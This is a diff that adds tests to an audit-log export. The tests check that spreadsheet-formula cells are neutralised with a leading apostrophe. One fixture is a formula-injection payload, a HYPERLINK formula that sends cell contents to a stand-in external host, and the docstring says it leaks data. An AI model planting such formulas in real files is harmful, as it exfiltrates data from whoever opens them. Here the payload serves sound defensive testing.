@@ -54,3 +54,34 @@ def test_exports_are_audited_and_show_no_sequence_or_hashes(personas, client):
     from core.models import AuditEntry
 
     assert AuditEntry.objects.filter(action="audit.export", actor=personas.admin).count() == 1
+
+
+def test_the_export_writes_formulas_as_text(personas, client):
+    """An organisation named like a formula (`=HYPERLINK(...)`) is a link that leaks data when the
+    export is opened in a spreadsheet; usernames may start with `@` or `-`. Such cells start with
+    `'` in the export (issue 11 item 8); the rest of the row is as it was."""
+    from accounts import services as accounts
+
+    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    org = personas.admin.organisation
+    accounts.organisation_update(actor=personas.admin, organisation=org, name=formula, country=org.country,
+                                 kind=org.kind)
+    user = accounts.user_create(actor=personas.admin, username="@sum", email="s@example.org",
+                                organisation=org, roles=[])
+    accounts.user_email_digest_set(actor=user, user=user, on=False)
+    client.force_login(personas.admin)
+    rows = export(client, "?action=organisation.update")
+    assert [row["organisation"] for row in rows] == ["'" + formula]
+    assert formula.replace('"', '\\"') in rows[0]["details"] and rows[0]["details"].startswith("{")
+    rows = export(client, f"?object_id={user.pk}&action=user.email_digest")
+    assert [(row["actor"], row["organisation"]) for row in rows] == [("'@sum", "'" + formula)]
+
+
+@pytest.mark.parametrize("value, shown", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (42, "42"),
+])
+def test_formula_cells_are_prefixed_and_others_kept(value, shown):
+    from core.spreadsheet import cell
+
+    assert cell(value) == shown
